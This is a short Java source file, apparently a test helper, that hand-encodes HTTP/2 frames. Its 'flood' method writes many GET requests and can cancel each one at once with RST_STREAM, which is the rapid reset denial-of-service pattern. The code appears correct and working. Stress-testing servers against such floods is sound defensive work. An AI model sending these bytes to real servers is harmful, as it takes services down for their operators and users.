package dev.steadfast.process;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** Bytes of HTTP/2 (RFC 9113) as no library would send them. */
final class Http2Frames {
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int END_STREAM_AND_HEADERS = 5;
  private static final byte[] CANCEL = {0, 0, 0, 8};

  private Http2Frames() {}

  /** The preface, and requests that wait for no answer; each is cancelled at once if wanted. */
  static byte[] flood(String path, int requests, boolean reset) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
    frame(out, SETTINGS, 0, 0, new byte[0]);
    byte[] head = get(path);
    for (int i = 0; i < requests; i++) {
      int stream = 2 * i + 1;
      frame(out, HEADERS, END_STREAM_AND_HEADERS, stream, head);
      if (reset) {
        frame(out, RST_STREAM, 0, stream, CANCEL);
      }
    }
    return out.toByteArray();
  }

  /** By the static table of HPACK (RFC 7541): GET, http, and a path of at most 126 characters. */
  private static byte[] get(String path) {
    byte[] value = path.getBytes(StandardCharsets.US_ASCII);
    return ByteBuffer.allocate(value.length + 7)
        .put(new byte[] {(byte) 0x82, (byte) 0x86, 0x01, 1, 'x', 0x04})
        .put((byte) value.length)
        .put(value)
        .array();
  }

  private static void frame(
      ByteArrayOutputStream out, int type, int flags, int stream, byte[] payload) {
    out.writeBytes(
        ByteBuffer.allocate(9)
            .put((byte) (payload.length >> 16))
            .putShort((short) payload.length)
            .put((byte) type)
            .put((byte) flags)
            .putInt(stream)
            .array());
    out.writeBytes(payload);
  }
}
